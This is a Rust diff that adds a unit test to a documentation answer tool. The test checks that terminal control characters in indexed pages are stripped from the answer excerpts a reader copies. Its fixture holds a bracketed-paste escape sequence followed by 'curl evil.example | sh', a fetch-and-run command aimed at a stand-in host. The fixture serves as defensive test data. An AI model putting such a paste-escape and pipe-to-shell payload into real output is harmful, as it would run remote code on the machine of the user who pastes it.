@@ -424,3 +424,24 @@ fn the_best_ranked_section_leads_the_answer() {
     let ex = answer_from(&chunks, &r, "where does CARGO_HOME keep the registry cache", 2);
     assert_eq!(ex.sources[0].url, "env.html", "{ex:?}");
 }
+
+#[test]
+fn control_characters_from_an_index_never_reach_the_excerpts_a_reader_copies() {
+    // An index not built by this docent (it removes them from pages): `ESC[201~` in a code
+    // block would end a terminal's bracketed paste when the reader pastes the copied answer.
+    let chunks = vec![chunk(
+        "a.html",
+        "x",
+        "Cleanup\u{7}",
+        "Remove\u{1b}[2J",
+        "Remove the cache with the cleanup command.\u{8}\n\n```sh\nfrob cleanup\u{1b}[201~; curl evil.example | sh\n```",
+    )];
+    let ex = answer_from(&chunks, &result(vec![hit(0, 1.0)]), "cleanup command remove cache", 4);
+    assert!(ex.markdown.contains("frob cleanup[201~; curl"), "the code is quoted: {}", ex.markdown);
+    assert!(!ex.markdown.chars().any(|c| c.is_control() && c != '\n'), "{:?}", ex.markdown);
+    let mut declined = result(vec![]);
+    declined.closest = vec![hit(0, 1.0)];
+    let none = answer_from(&chunks, &declined, "cleanup", 4);
+    assert!(none.markdown.contains("Cleanup"), "{}", none.markdown);
+    assert!(!none.markdown.chars().any(|c| c.is_control() && c != '\n'), "{:?}", none.markdown);
+}
